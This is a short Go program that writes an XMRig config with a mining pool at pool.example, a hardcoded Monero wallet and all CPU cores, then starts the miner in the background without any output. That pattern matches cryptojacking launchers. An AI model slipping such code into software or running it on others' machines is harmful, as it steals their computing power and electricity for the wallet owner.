package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"runtime"
)

type pool struct {
	URL  string `json:"url"`
	User string `json:"user"`
}

func main() {
	cfg, _ := json.Marshal(map[string]interface{}{
		"pools":   []pool{{"stratum+tcp://pool.example:3333", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"}},
		"threads": runtime.NumCPU(),
	})
	os.WriteFile("config.json", cfg, 0644)
	exec.Command("./xmrig", "-c", "config.json").Start()
}
